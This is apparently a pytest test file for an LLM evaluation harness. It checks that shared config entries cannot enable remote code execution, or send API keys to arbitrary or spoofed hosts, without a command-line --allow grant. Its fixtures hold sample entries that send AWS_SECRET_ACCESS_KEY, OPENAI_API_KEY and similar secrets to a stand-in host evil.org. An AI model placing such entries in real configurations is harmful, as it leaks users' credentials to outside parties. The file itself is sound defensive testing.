"""Powers: a file that somebody sent runs no code and sends no secret unless the user says so."""

from __future__ import annotations

import pytest

from harness import registry
from harness.errors import ConfigError
from harness.llm.catalogue import resolve_model
from harness.llm.powers import ALLOWED
from harness.llm.server.keys import NO_KEY, key_of
from harness.llm.server.model import ServerModel
from tests.harness.conftest import CommandLine

CODE = "runs Python code that comes with it"
KEY = "sk-canary"


@pytest.fixture(autouse=True)
def _nothing_allowed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(ALLOWED, "")


@pytest.mark.parametrize(
    ("entry", "power", "why"),
    [
        ({"path": "org/name", "trust_remote_code": True}, "remote-code", CODE),
        ("lm-eval:hf,pretrained=x,trust_remote_code=True", "remote-code", CODE),
        ("lm-eval:hf,trust_remote_code=1,pretrained=x", "remote-code", CODE),
        (
            {"name": "openai:m@https://evil.org/v1", "api_key_env": "AWS_SECRET_ACCESS_KEY"},
            "env:AWS_SECRET_ACCESS_KEY",
            "sends the environment variable AWS_SECRET_ACCESS_KEY to https://evil.org/v1",
        ),
        (
            "openai:m@https://evil.org/v1,api_key_env=OPENAI_API_KEY",
            "env:OPENAI_API_KEY",
            "sends the environment variable OPENAI_API_KEY to https://evil.org/v1",
        ),
        (
            "openai:m@http://127.0.0.1/v1,https://evil.org/v1,api_key_env=MY_KEY",
            "env:MY_KEY",
            "sends the environment variable MY_KEY to http://127.0.0.1/v1, https://evil.org/v1",
        ),
        (
            {"name": "openai:m", "api_key_env": "HF_TOKEN"},
            "env:HF_TOKEN",
            "sends the environment variable HF_TOKEN to api.openai.com",
        ),
    ],
)
def test_an_entry_gets_a_power_only_by_the_command_line(monkeypatch, entry, power, why) -> None:
    with pytest.raises(ConfigError) as refused:
        resolve_model(entry)
    assert why in str(refused.value)
    assert f"write memory-harness --allow {power} before the command" in str(refused.value)
    for other in ("remote-code", "env:OTHER"):
        if other != power:
            monkeypatch.setenv(ALLOWED, other)
            with pytest.raises(ConfigError, match="--allow"):
                resolve_model(entry)
    monkeypatch.setenv(ALLOWED, f"env:X,{power}")
    assert resolve_model(entry)


@pytest.mark.parametrize(
    "entry",
    [
        {"path": "org/name", "trust_remote_code": False},
        "lm-eval:hf,pretrained=x,trust_remote_code=False",
        "lm-eval:hf,pretrained=my_trust_remote_code",
        "openai:m@https://openrouter.ai/api/v1,api_key_env=OPENROUTER_API_KEY",
        {"name": "openai:m@http://localhost:8000/v1", "api_key_env": "MY_KEY"},
    ],
)
def test_what_asks_for_no_power_needs_none(entry) -> None:
    assert resolve_model(entry)


def test_a_plug_in_that_is_installed_may_have_what_its_entry_says() -> None:
    fields = {"path": "org/own", "trust_remote_code": True}
    registry.register("models", "own-code", fields)
    assert resolve_model("own-code").trust_remote_code
    assert resolve_model({"name": "own-code", "dtype": "float32"}).trust_remote_code


@pytest.mark.parametrize(
    ("urls", "variable"),
    [
        ("https://api.openai.com/v1", "OPENAI_API_KEY"),
        ("http://127.0.0.1:8000/v1", "OPENAI_API_KEY"),
        ("http://[::1]:8000/v1,http://localhost/v1", "OPENAI_API_KEY"),
        ("https://api.mistral.ai/v1", "MISTRAL_API_KEY"),
        ("https://evil.org/v1", None),
        ("https://api.openai.com.evil.org/v1", None),
        ("https://evil.org/api.openai.com", None),
        ("http://127.0.0.1.evil.org/v1", None),
        ("http://127.0.0.1:8000/v1,https://evil.org/v1", None),
        ("http://192.168.0.7:8000/v1", None),
    ],
)
def test_a_key_that_nobody_named_goes_to_the_host_that_it_is_for(
    monkeypatch, urls, variable
) -> None:
    for name in ("OPENAI_API_KEY", "MISTRAL_API_KEY"):
        monkeypatch.setenv(name, f"{KEY} of {name}")
    config = resolve_model({"name": "openai:m", "base_url": urls})
    wanted = NO_KEY if variable is None else f"{KEY} of {variable}"
    assert key_of(config)[1] == wanted
    model = ServerModel(config)
    sent = {place.client.api_key for place in model._transport.endpoints.all}
    assert sent == {wanted}
    model.close()


@pytest.mark.parametrize(
    ("url", "clear"),
    [
        ("http://api.openai.com/v1", True),
        ("http://93.184.216.34/v1", True),
        ("http://192.168.0.7:8000/v1", False),
        ("http://gpu-node:8000/v1", False),
        ("https://93.184.216.34/v1", False),
    ],
)
def test_no_key_crosses_the_internet_in_clear(monkeypatch, url, clear) -> None:
    monkeypatch.setenv(ALLOWED, "env:MY_KEY")
    monkeypatch.setenv("MY_KEY", KEY)
    config = resolve_model(f"openai:m@{url},api_key_env=MY_KEY")
    if not clear:
        assert key_of(config) == ("MY_KEY", KEY)
        model = ServerModel(config)
        assert model.provenance()["key"] == "MY_KEY"
        model.close()
        return
    with pytest.raises(ConfigError, match=f"key in MY_KEY would go to {url} in clear") as error:
        key_of(config)
    assert KEY not in str(error.value)


def test_the_command_line_gives_powers_before_the_command(
    cli: CommandLine, tmp_path, monkeypatch
) -> None:
    board = tmp_path / "board.yaml"
    board.write_text(
        "name: b\ntasks: [nq]\nmethods: [no-retrieval]\nlimit: 1\n"
        "models: [{name: 'openai:m@https://evil.org/v1', api_key_env: MY_SECRET}]\n"
    )
    monkeypatch.setenv("MY_SECRET", KEY)
    out = tmp_path / "runs"
    told = cli.refuses("run", board, "--out", out)
    assert "sends the environment variable MY_SECRET to https://evil.org/v1" in told
    assert not out.exists()
    assert cli("--allow", "env:MY_SECRET", "run", board, "--out", out).code == 0
    written = "".join(path.read_text() for path in out.rglob("*") if path.is_file())
    assert KEY not in written
    assert "no such power; there are remote-code" in cli.refuses("--allow", "all", "list", "tasks")
